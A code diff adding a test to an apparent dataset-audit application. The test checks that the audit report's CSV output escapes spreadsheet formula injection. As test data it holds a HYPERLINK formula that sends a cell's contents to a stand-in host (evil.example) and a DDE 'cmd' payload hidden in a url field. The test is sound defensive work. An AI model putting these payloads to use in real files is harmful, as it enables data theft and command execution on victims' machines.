@@ -170,3 +170,35 @@ def test_an_organisation_quotes_every_unlicensed_paid_match_in_one_go(
     assert quote.context["can_pay"]  # the admin's wallet is the organisation's paying wallet
     tx = client.get(response["Location"] + "tx").json()["tx"]
     assert tx["from"] == ai_company.address and int(tx["value"], 16) == 2 * 5 * 10**15
+
+
+def test_the_report_csv_never_writes_a_formula_from_the_dataset(client, ai_company, found, tmp_path):
+    """A manifest row's url (or a shard's .json) is the dataset's text: written as text."""
+    work, data = found
+    evil = '=HYPERLINK("http://evil.example/?x="&A1;"click")'
+    manifest = io.StringIO()
+    writer = csv.writer(manifest)
+    writer.writerow(["url", "sha256"])
+    writer.writerow([evil, hashlib.sha256(data).hexdigest()])
+    shard = tmp_path / "00001.tar"
+    write_shard(shard, [{"key": "-k2", "data": data, "url": "+cmd|' /C calc'!A0"}])
+    client.force_login(ai_company.user)
+    client.post(
+        "/audits/",
+        {
+            "name": "Hostile set",
+            "files": [
+                SimpleUploadedFile("set.csv", manifest.getvalue().encode()),
+                SimpleUploadedFile("00001.tar", shard.read_bytes()),
+            ],
+            "sample": "100",
+        },
+    )
+    audit = Audit.objects.get()
+    body = b"".join(client.get(f"/audits/{audit.token}/report.csv").streaming_content).decode()
+    rows = list(csv.DictReader(io.StringIO(body)))
+    urls = {r["file"]: r["url"] for r in rows}
+    assert urls["set.csv"] == "'" + evil
+    assert urls["00001.tar"] == "'+cmd|' /C calc'!A0"
+    assert {r["key"] for r in rows} == {"", "'-k2"}
+    assert all(not v or v[0] not in "=+-@\t\r" for r in rows for v in r.values())
